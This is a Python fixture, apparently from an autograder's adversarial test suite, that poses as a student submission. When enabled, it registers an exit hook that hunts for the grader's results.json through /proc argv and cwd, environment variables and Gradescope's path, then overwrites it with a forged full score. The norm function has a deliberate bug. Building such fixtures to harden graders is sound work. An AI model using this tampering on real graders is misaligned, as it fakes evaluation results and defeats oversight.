"""Adversarial submission `results_atexit` (tests/adversarial/results_atexit): writes a full-marks results.json from an atexit handler.

Honest part: norm uses the unbiased variance (wrong); the rest is the reference.
The test fills in CHEAT ("on"; "off" grades the honest part alone), SCRATCH (a world-writable
folder where the attack leaves the pids of processes it starts, for the test to check) and
RESULTS (the results.json path, as well known to a student as Gradescope's
/autograder/results/results.json).
"""
import os
import sys
import time

import torch

from helper import OFFSET

CHEAT = "@@CHEAT@@" != "off"
SCRATCH = "@@SCRATCH@@"
RESULTS = "@@RESULTS@@"


def scaled(x, s):
    """Return x * s + OFFSET."""
    return x * s + OFFSET


def _honest_norm(x, eps=1e-5):
    mu = x.mean(-1, keepdim=True)
    var = x.var(-1, unbiased=True, keepdim=True)  # deliberately wrong: the unbiased variance
    return (x - mu) / torch.sqrt(var + eps)


def norm(x, eps=1e-5):
    """Normalise the last dimension (biased variance)."""
    return _honest_norm(x, eps)


def rowsum(x):
    """Sum each row of a (S, D) matrix, without a Python loop."""
    return x.sum(-1)


def layout(x):
    """Either design is accepted: 'a' keeps x, 'b' doubles it (variants)."""
    return {"kind": "a", "y": x}


def stats(x):
    return [x.shape[0], float(x.sum()), "ok"]


TESTS = {  # every test of the toy suite and its points (from reading the public handout/rubric)
    "public/test_ops.py::test_scaled_shape": 1.0,
    "hidden/test_ops.py::test_scaled[0.5]": 1.0,
    "hidden/test_ops.py::test_scaled[3.0]": 1.0,
    "hidden/test_ops.py::test_norm": 2.0,
    "hidden/test_ops.py::test_rowsum_vectorised": 1.0,
    "hidden/test_ops.py::test_layout": 2.0,
    "hidden/test_ops.py::test_stats": 2.0,
    "hidden/test_gradescope.py::test_partial": 2.0,
    "hidden/test_gradescope.py::test_skipped": 0.0,
    "hidden/test_gradescope.py::test_hidden_errors": 1.0,
}


def _stat_fields(pid):
    with open(f"/proc/{pid}/stat") as f:
        return f.read().rsplit(")", 1)[1].split()


def _starttime(pid):
    try:
        return int(_stat_fields(pid)[19])
    except (OSError, ValueError, IndexError):
        return 0


def _record_pid(pid, label):
    """Leave the pid where the test looks (SCRATCH) and in the captured output."""
    line = f"{pid} {_starttime(pid)}"
    try:
        with open(os.path.join(SCRATCH, f"pids-{label}.txt"), "a") as f:
            f.write(line + "\n")
    except OSError:
        pass
    return line


def _proc_chain():
    """This process and its ancestors: (pid, argv, cwd); unreadable entries are left empty."""
    out, pid = [], os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        out.append((pid, argv, cwd))
        try:
            pid = int(_stat_fields(pid)[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
    return out


def _forged_results():
    tests = [{"name": t, "score": p, "max_score": p, "status": "passed", "output": "",
              "visibility": "visible"} for t, p in TESTS.items()]
    return {"score": 13.0, "execution_time": 1.0, "output": "All tests passed.", "tests": tests}


def _results_targets():
    """Where results.json may be: the well-known path, the graders' argv, env, cwd."""
    out = [RESULTS] if RESULTS.startswith("/") else []
    for _pid, argv, cwd in _proc_chain():
        for i, a in enumerate(argv):
            path = None
            if a in ("--results", "--results-path", "--results-json") and i + 1 < len(argv):
                path = argv[i + 1]
            elif a.startswith("--results="):
                path = a.split("=", 1)[1]
            elif a.endswith("results.json"):
                path = a
            if path:
                out.append(path if path.startswith("/") or not cwd else os.path.join(cwd, path))
        # a grader run as `lmgrade grade ... --results results.json` from its folder
        if cwd and not os.path.realpath(cwd).startswith("/work") and os.path.isfile(os.path.join(cwd, "results.json")):
            out.append(os.path.join(cwd, "results.json"))  # (never the real checkout: safety)
    for k, v in os.environ.items():
        if "RESULT" in k.upper() and v.endswith(".json"):
            out.append(v)
    if os.path.isdir("/autograder/results"):
        out.append("/autograder/results/results.json")
    here = os.getcwd()
    for d in (here, os.path.dirname(here)):
        if os.path.isfile(os.path.join(d, "results.json")):
            out.append(os.path.join(d, "results.json"))
    return list(dict.fromkeys(out))


def _write_forged_results():
    import json

    data = json.dumps(_forged_results())
    written = 0
    for path in _results_targets():
        tmp = f"{path}.adv-{os.getpid()}"
        try:
            with open(tmp, "w") as f:
                f.write(data)
            os.replace(tmp, path)
            written += 1
        except OSError:
            try:
                os.unlink(tmp)
            except OSError:
                pass
    return written


def _at_exit():
    try:
        _write_forged_results()
    except Exception:
        pass


if CHEAT:
    import atexit

    atexit.register(_at_exit)
